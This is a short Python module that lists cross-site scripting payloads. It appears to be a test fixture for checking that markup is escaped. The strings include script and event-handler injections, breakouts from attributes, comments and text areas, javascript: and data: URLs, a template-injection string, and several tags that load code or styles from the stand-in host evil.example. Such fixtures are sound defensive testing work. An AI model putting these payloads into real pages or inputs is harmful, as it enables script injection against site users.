"""Texts that run a script, or change the page, if they are put into markup unescaped.

Each would call `pwned`, or create nodes of the class `hacked`.
"""

VECTORS = (
    # Elements.
    "<script>pwned()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>pwned()</scr</script>ipt>",
    "<img src=x onerror=pwned() class=hacked>",
    "<img src=`x` onerror=`pwned()` class=hacked>",
    "<svg onload=pwned() class=hacked>",
    "<svg><script>pwned()</script></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s class=hacked>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned() class=hacked>",
    "<iframe srcdoc='<script>parent.pwned()</script>' class=hacked>",
    "<iframe src=javascript:parent.pwned() class=hacked>",
    "<object data=javascript:pwned() class=hacked></object>",
    "<embed src=javascript:pwned() class=hacked>",
    "<video><source onerror=pwned() class=hacked></video>",
    "<audio src onerror=pwned() class=hacked>",
    "<details open ontoggle=pwned() class=hacked>",
    "<marquee onstart=pwned() class=hacked>",
    "<body onload=pwned()>",
    "<input autofocus onfocus=pwned() class=hacked>",
    "<form action=javascript:pwned() class=hacked><button>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:pwned()'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; *{display:none}</style>",
    "<template><script>pwned()</script></template>",
    # Out of an attribute, a comment, a title, a text area, a table.
    '"><script>pwned()</script>',
    "'><img src=x onerror=pwned() class=hacked>",
    '" onmouseover=pwned() autofocus onfocus=pwned() x="',
    "' onclick='pwned()' style='position:fixed;inset:0",
    "--><img src=x onerror=pwned() class=hacked>",
    "</title><script>pwned()</script>",
    "</textarea><script>pwned()</script>",
    "</td></tr></table><h1 class=hacked>moved</h1>",
    "</script><script>pwned()</script>",
    # Addresses, templates, entities, odd bytes.
    "javascript:pwned()",
    "java\tscript:pwned()",
    "data:text/html,<script>pwned()</script>",
    "{{constructor.constructor('pwned()')()}}{% debug %}",
    "&lt;img src=x onerror=pwned()&gt;",
    "\u003cimg src=x onerror=pwned() class=hacked\u003e",
    "<img/src/onerror=pwned()//class=hacked>",
    "\u202e<img src=x onerror=pwned() class=hacked>",
)
